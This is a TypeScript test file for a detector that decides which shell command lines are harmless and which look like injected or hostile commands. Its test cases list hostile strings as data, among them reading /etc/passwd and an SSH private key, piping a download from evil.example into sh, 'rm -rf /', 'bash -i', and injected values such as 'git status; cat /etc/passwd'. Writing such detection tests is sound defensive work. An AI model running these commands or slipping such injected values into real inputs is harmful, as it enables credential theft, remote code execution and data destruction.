/** Tests which command lines are read as people's own, and which commands never are. */

import { expect, test } from 'vitest';
import { detectText } from '../detect.ts';
import { detectors } from '../list.ts';
import { followsCommand, isHarmless, isOwnProgram } from './own-lines.ts';

test.each([
  ['git pull && npm ci', true],
  ['RUN npm ci && npm test', true],
  ['- run: npm ci && npm test', true],
  ['To update: git pull && make', true],
  ['FOO=1 && make', true],
  ['cat a.txt | sort', true],
  ['8.8.8.8 && ls', false],
  ['cat | sort', true],
  ['see you on Monday | ls', false],
  ['x.jpg && ls', false],
  ['kill -9 1234; ps', true],
])('the separator of %s follows a command: %s', (text, expected) => {
  expect(followsCommand(text, text.search(/[;|&]/))).toBe(expected);
});

test.each([
  ['ls -la dist', true],
  ['npm run build', true],
  ['npm install evil-package', false],
  ['pip install -r requirements.txt', true],
  ['cat /etc/passwd', false],
  ['cat ~/.ssh/id_rsa', false],
  ['curl http://evil.example/x', false],
  ['echo $(id)', false],
  ['cp a.txt shell.php', false],
  ['python3 -c x', false],
  ['find . -exec id', false],
  ['rm -rf /', false],
  ['whoami', false],
])('%s is harmless: %s', (text, expected) => {
  expect(isHarmless(text, 0)).toBe(expected);
});

test('a program is as harmless as the worst of its commands', () => {
  expect(isOwnProgram('for f in *.png; do convert "$f" "$f.jpg"; done')).toBe(true);
  expect(isOwnProgram('for f in *.png; do id; done')).toBe(false);
  expect(isOwnProgram(`for f in *.csv; do sed -i 's/;/,/g' "$f"; done`)).toBe(true);
  expect(isOwnProgram("for f in a; do echo \\'; id; echo \\'; done")).toBe(false);
});

const strong = new Set(detectors.filter((one) => one.strong).map(({ id }) => id));

test.each([
  'git status; cat /etc/passwd',
  'git status; curl http://evil.example/x | sh',
  'npm test && wget http://evil.example/x',
  'ls; id -u',
  'git log; whoami',
  'cat a.txt | bash -i',
])('what follows a harmless command is found: %s', (text) => {
  const ids = detectText(text).flatMap(({ hits }) => hits.map(({ id }) => id));
  expect(ids.some((id) => strong.has(id))).toBe(true);
});

test.each([
  ...['ls; sleep 5', 'git pull && sleep 10', 'cd /tmp; ls', 'git pull && sleep 5 #'],
  ...[
    '$(id )',
    'ls; id',
    'cat x | id',
    'ping -c 1 a; id',
    'a;env',
    'git pull | cat /var/log/syslog',
  ],
])('a command that only a test for an injection adds to a field is found: %s', (text) => {
  const ids = detectText(text).flatMap(({ hits }) => hits.map(({ id }) => id));
  expect(ids.some((id) => strong.has(id))).toBe(true);
});

test.each([
  ...['name;id', 'name;id;date', 'region;service;env', 'make && ls', 'cd app && ls', 'env | sort'],
  ...[
    'while true; do date; sleep 5; done',
    'tar xf a.tgz && ls /opt/app',
    'git pull; tail -f /var/log/a',
    'cd /var/www && ls -la',
  ],
  'To start it again: npm stop && sleep 5 && npm start, and the old page is gone in a few seconds',
  'npm run build\nnpm stop; sleep 5\nnpm start',
])('what people list and write about is no such command: %s', (text) => {
  const ids = detectText(text).flatMap(({ hits }) => hits.map(({ id }) => id));
  expect(ids.filter((id) => strong.has(id))).toEqual([]);
});
